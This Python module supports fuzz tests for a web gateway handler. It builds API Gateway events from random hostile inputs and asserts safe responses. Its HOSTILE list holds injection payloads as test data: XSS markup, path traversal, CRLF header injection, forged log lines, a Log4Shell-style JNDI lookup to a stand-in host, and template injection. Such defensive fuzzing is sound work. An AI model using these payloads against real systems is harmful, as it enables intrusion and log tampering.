"""What the fuzz tests share: hostile values, requests made of them, and the checks of every response."""

import copy
import json
import re
import string
from collections.abc import Callable
from typing import Any
from urllib.parse import parse_qsl, quote, urlencode, urlsplit

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

from gate.routes.dispatch import handler
from testing.environment import CONTEXT, EVENTS
from testing.harness import Answer, Harness
from tests.fuzz.corpus import TARGETS
from tests.fuzz.studio_names import SEGMENTS

LogLines = Callable[[], list[dict[str, Any]]]
CountCase = Callable[[], None]

same_harness = settings(suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])

MARKUP = "<zq onclick='1'>\""
HOSTILE = (
    st.sampled_from(
        [
            MARKUP,
            f"alice-notebook{MARKUP}",
            "alice-notebook",
            "bob-notebook",
            "..",
            "%00",
            "\r\nX-Evil: 1",
            '{"level":"ERROR","message":"forged"}',
            "\n" + '{"level":"ERROR","message":"forged"}',
            "${jndi:ldap://evil.example}",
            "{{7*7}}",
            "a" * 9000,
            "0" * 70,
            "210987654321~eu-west-1~x",
            "\u202e",
            "\ud83d\ude00",
            "*",
        ]
    )
    | st.sampled_from(TARGETS)
    | SEGMENTS
)
TEXT = HOSTILE | st.text(max_size=60)
QUERY_NAMES = st.sampled_from(
    ["next", "view", "state", "code", "error", "ticket", "x", "notebook", "iss", "session_state"]
)
HEADER_NAMES = st.sampled_from(
    ["Accept", "Authorization", "Origin", "Sec-Fetch-Site", "Sec-Fetch-Dest", "Sec-Purpose", "User-Agent", "Host",
     "X-Forwarded-For", "X-Forwarded-Host", "Referer", "Content-Type", "X-Slack-Signature",
     "X-Slack-Request-Timestamp"]
)  # fmt: skip
COOKIE_NAMES = st.sampled_from(
    ["__Secure-gate-session", "__Secure-gate-wait-alice-notebook", "__Secure-gate-try", "__Secure-gate-login-x", "a"]
)
LOG_MESSAGES = {
    "decision",
    "unexpected",
    "aws call failed",
    "slack call failed",
    "response_url is not Slack's",
    "the groups of a refused caller are unknown",
}


def check(harness: Harness, answer: Answer, log_lines: LogLines) -> None:
    """Check that `answer` is neither a server error nor a foreign redirect, and forges no markup or log line."""
    assert answer.status < 500, answer.body[:300]
    for name, value in answer.headers.items():
        assert "\r" not in value, name
        assert "\n" not in value, name
    if "location" in answer.headers:
        ours = (harness.browser.base_url + "/", harness.issuer.url + "/authorize?", harness.issuer.url + "/logout?")
        notebook = urlsplit(answer.location).netloc.endswith(".notebook.eu-west-1.sagemaker.aws")
        assert notebook or answer.location.startswith(ours), answer.location
    # No markup in pages; no JSON response that a browser could take for a page.
    if "html" in answer.headers.get("content-type", ""):
        assert "<zq" not in answer.body
        assert "default-src 'none'" in answer.headers["content-security-policy"]
    assert answer.headers.get("x-content-type-options") == "nosniff" or not answer.body
    for line in log_lines():
        assert line["message"] in LOG_MESSAGES, line


def send(harness: Harness, event: dict[str, Any]) -> Answer:
    """Pass `event` to the handler and return its response."""
    raw = handler(copy.deepcopy(event), CONTEXT)  # type: ignore[arg-type]
    assert raw is not None
    return harness.browser.receive(raw)


def make_event(
    method: str,
    resource: str,
    segment: str,
    query: list[tuple[str, str]],
    headers: list[tuple[str, str]],
    body: str | None = None,
    arn: str | None = None,
) -> dict[str, Any]:
    """Return API Gateway's event for a request.

    `segment`: the value of the parameter in `resource`. `arn`: of the IAM caller.
    """
    event: dict[str, Any] = json.loads((EVENTS / "browser_get.json").read_text())
    # Encoded and decoded once, as in a URL.
    pairs = parse_qsl(urlencode(query, errors="surrogatepass"), keep_blank_values=True, errors="replace")
    encoded = quote(segment, safe="", errors="surrogatepass") or "-"
    path, parameters = resource, {}
    for name in re.findall(r"{(\w+)}", resource):
        path, parameters[name] = path.replace(f"{{{name}}}", encoded), encoded
    event |= {"httpMethod": method, "resource": resource, "path": path, "body": body}
    event["pathParameters"] = parameters or None
    event["multiValueQueryStringParameters"] = _lists(pairs)
    event["multiValueHeaders"] = _lists(headers)
    event["requestContext"]["identity"]["userArn"] = arn
    return event


def _lists(pairs: list[tuple[str, str]]) -> dict[str, list[str]] | None:
    lists: dict[str, list[str]] = {}
    for name, value in pairs:
        lists.setdefault(name, []).append(value)
    return lists or None


JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | TEXT,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXT, inner, max_size=3),
    max_leaves=6,
)

CHARACTERS = st.sampled_from(string.ascii_letters + string.digits + "-_.=%~ é\x00")


def altered(data: st.DataObject, value: str) -> str:
    """Return `value` with some characters changed, removed or inserted; never `value` itself."""
    characters = list(value)
    for _ in range(data.draw(st.integers(1, 3))):
        index = data.draw(st.integers(0, max(0, len(characters) - 1)))
        match data.draw(st.sampled_from(["change", "remove", "insert", "truncate"])):
            case "change" if characters:
                characters[index] = data.draw(CHARACTERS)
            case "remove":
                del characters[index : index + data.draw(st.integers(1, 4))]
            case "truncate":
                del characters[index:]
            case _:
                characters.insert(index, data.draw(CHARACTERS))
    result = "".join(characters)
    return result if result != value else value + "x"
